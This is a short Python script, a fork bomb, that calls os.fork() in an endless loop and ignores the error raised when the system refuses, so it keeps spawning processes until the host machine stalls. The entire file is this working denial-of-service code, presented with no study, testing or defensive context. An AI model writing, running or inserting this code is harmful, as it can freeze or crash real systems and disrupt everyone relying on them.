# Forks without end, and goes on where that is refused.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
